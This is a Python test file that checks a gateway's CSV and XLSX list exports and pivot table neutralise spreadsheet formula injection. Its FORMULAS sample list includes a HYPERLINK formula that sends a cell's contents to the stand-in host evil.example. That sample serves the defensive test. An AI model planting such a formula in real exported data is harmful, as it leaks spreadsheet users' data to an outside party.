"""Text that a spreadsheet would run as a formula (`=HYPERLINK(...)`, `+1`, `-1`, `@x`, a leading tab or CR) goes
out of every list export and of the pivot table as plain text: prefixed in a CSV, a text cell in an XLSX."""
import csv
import io

import openpyxl
import pytest

from services.gateway import exports
from shared.text import FORMULA_PREFIXES
from tests.helpers import answering
from tests.unit.test_gateway_api import cheap_hashing  # noqa: F401  (fixture)
from tests.unit.test_gateway_web import INDICATORS, Services, sign_in, site  # noqa: F401  (fixture)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"x")', "+1", "-1", "@x", "\t=1+1", "\r=1+1", "=1+1"]


def csv_cells(content: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for c in row]


def assert_csv_disarmed(content: bytes) -> list[str]:
    cells = csv_cells(content)
    armed = [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert armed == [], armed
    return cells


def assert_xlsx_disarmed(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # What begins like a formula is a text cell, and stays one when edited in a spreadsheet.
    armed = [(c.coordinate, c.value) for c in cells
             if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES) and not c.quotePrefix]
    assert armed == [], armed
    return [c.value for c in cells]


@pytest.mark.parametrize("lang", ["fr", "ar"])
@pytest.mark.parametrize("listing", sorted(exports.COLUMNS))
def test_every_list_export_writes_formula_like_text_as_text(listing, lang):
    keys = [key for key, _, _ in exports.COLUMNS[listing]]
    rows = [{key: text for key in keys} for text in FORMULAS]  # every column of every line, codes too
    content, _ = exports.table(listing, rows, "csv", lang)
    cells = assert_csv_disarmed(content)
    for text in FORMULAS:
        assert "'" + text in cells, (listing, text)  # kept, only disarmed
    content, _ = exports.table(listing, rows, "xlsx", lang)
    values = assert_xlsx_disarmed(content)
    for text in FORMULAS:
        assert text.replace("\r", "\n") in values, (listing, text)  # XML reads a bare CR back as a newline


def test_the_pivot_table_writes_formula_like_names_as_text(site, monkeypatch):  # noqa: F811
    client, _ = site
    answering(monkeypatch, Services, {"breakdown": lambda scope, period, by, *_: {
        "scope": scope, "period": period, "by": by, "as_of": "2026-01-31T23:59:59+01:00", "positions": {},
        "rows": [{"commune": text, "schools": 1, "indicators": [dict(INDICATORS[0], value=n, numerator=n)]}
                 for n, text in enumerate(FORMULAS, start=1)]}})
    sign_in(client, "coord")
    for lang in ("fr", "ar"):
        got = client.get(f"/pivot?lang={lang}&period=2025-2026&by=commune&format=csv")
        assert got.status_code == 200
        cells = assert_csv_disarmed(got.data)
        assert all(any(text in c for c in cells) for text in FORMULAS), cells
        got = client.get(f"/pivot?lang={lang}&period=2025-2026&by=commune&format=xlsx")
        assert got.status_code == 200
        values = assert_xlsx_disarmed(got.data)
        assert all(any(isinstance(v, str) and text.replace("\r", "\n") in v for v in values)
                   for text in FORMULAS), values
